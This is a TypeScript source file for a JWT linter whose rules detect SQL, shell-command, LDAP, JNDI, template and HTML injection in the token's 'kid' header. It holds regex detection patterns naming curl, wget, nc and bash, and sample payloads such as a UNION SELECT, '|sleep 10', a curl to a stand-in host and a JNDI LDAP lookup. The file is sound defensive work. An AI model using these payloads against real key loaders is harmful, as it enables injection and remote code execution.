import { removeMember } from '../../../json/edit-json.ts';
import { atMember } from '../../at-json.ts';
import { defineRule, type Rule } from '../../define-rule.ts';
import { editFix } from '../../edit-fix.ts';

const MAX_TEXT = 16_384;

interface Injection extends Pick<Rule, 'id' | 'title' | 'why' | 'fix' | 'reference' | 'examples'> {
  readonly patterns: readonly RegExp[];
}

const INJECTIONS: readonly Injection[] = [
  {
    id: 'kid-sql-injection',
    /** SQL syntax, not a lone apostrophe or `--`: those are in names. */
    patterns: [
      /['"]\s*(?:(?:or|and|union|having)\b[\s(]|;|--|#)/i,
      /\bunion\s+(?:all\s+)?select\b/i,
      /;\s*(?:drop|insert|update|delete)\s/i,
      /'\s*=\s*'/,
      /\bwaitfor\s+delay\b/i,
      /\b(?:pg_)?sleep\(\d/i,
    ],
    title: 'kid contains SQL',
    why: 'If the server builds its key query from kid as text, the sender chooses the key that comes back.',
    fix: 'Use a parameterised query, or look kid up among known ones.',
    reference: 'RFC 8725 §2.9, §3.10',
    examples: {
      flagged: [
        { header: { alg: 'HS256', kid: "x' UNION SELECT '1';-- " }, payload: {}, severity: 'high' },
        { header: { alg: 'HS256', kid: "' or 1=1" }, payload: {} },
      ],
      clean: [
        { header: { alg: 'HS256', kid: "o'brien-laptop" }, payload: {} },
        { header: { alg: 'HS256', kid: "d'or-2024" }, payload: {} },
        { header: { alg: 'HS256', kid: 'a--b' }, payload: {} },
      ],
    },
  },
  {
    id: 'kid-command-injection',
    /** A command after an operator that begins the text, or with an argument: `tenant|id` is a name. */
    patterns: [
      /^\s*\|{1,2}\s*(?:sleep|curl|wget|nc|bash|sh|ping|cat|id|whoami|powershell|cmd)(?:\s|$)/i,
      /[;&|]{1,2}\s*(?:sleep|curl|wget|nc|bash|sh|ping|cat|powershell|cmd)\s+\S/i,
      /[;&|]\s*whoami\b/i,
      /\$\([^)]{1,200}\)/,
      /`\w[^`]{0,200}`/,
    ],
    title: 'kid contains a shell command',
    why: 'Key loaders that give kid to a shell, or to an open() that takes "|command" as Ruby’s does, run it.',
    fix: 'Never give kid to a shell or to open(). Look it up among known ones.',
    reference: 'RFC 8725 §3.10; rfc8725bis §3.10',
    examples: {
      flagged: [
        { header: { alg: 'HS256', kid: '|sleep 10' }, payload: {}, severity: 'high' },
        { header: { alg: 'HS256', kid: 'key;curl http://x.example' }, payload: {} },
      ],
      clean: [
        { header: { alg: 'HS256', kid: 'key|2024' }, payload: {} },
        { header: { alg: 'HS256', kid: 'tenant|id' }, payload: {} },
        { header: { alg: 'HS256', kid: 'auth0|cat' }, payload: {} },
      ],
    },
  },
  {
    id: 'kid-other-injection',
    /** LDAP, JNDI, templates (not a GUID in braces), HTML, and line ends for a log or a header. */
    patterns: [
      /\*\)\s*\(|\)\s*\(\|/,
      /\$\{jndi:/i,
      /\{\{(?![0-9a-f-]{1,200}\}\})[^{}]{1,200}\}\}|\$\{[^}]{1,200}\}|<%[=\s]/i,
      /<(?:script|img|svg)[\s>/]/i,
      /[\r\n]/,
    ],
    title: 'kid contains code for what reads it',
    why: 'It has the syntax of LDAP, of a template, of HTML or of a second line: an attempt to reach whatever takes the key id, such as a directory, a page or a log.',
    fix: 'Accept letters, digits and "._~-" in key ids, at most 128 of them.',
    reference: 'rfc8725bis §3.10',
    examples: {
      flagged: [
        { header: { alg: 'HS256', kid: '*)(uid=*' }, payload: {}, severity: 'high' },
        { header: { alg: 'HS256', kid: '${jndi:ldap://x.example/a}' }, payload: {} },
      ],
      clean: [
        { header: { alg: 'HS256', kid: '{3f2504e0-4f89-11d3-9a0c-0305e82c3301}' }, payload: {} },
        { header: { alg: 'HS256', kid: 'key(1)' }, payload: {} },
      ],
    },
  },
];

/** By the rule's id. */
export const PATTERNS: ReadonlyMap<string, readonly RegExp[]> = new Map(
  INJECTIONS.map(({ id, patterns }) => [id, patterns]),
);

export default INJECTIONS.map(({ patterns, ...words }) =>
  defineRule({
    ...words,
    severity: 'high',
    appliesTo: ['jws', 'jwe'],
    needs: [],
    check: ({ header }) => {
      const kid = header?.member('kid');
      if (kid?.value.kind !== 'string') return undefined;
      const text = kid.value.value.slice(0, MAX_TEXT);
      return patterns.some((p) => p.test(text)) ? { at: atMember('header', kid) } : undefined;
    },
    quickFix: editFix('Remove kid', (text) => removeMember(text, ['kid'])),
  }),
);
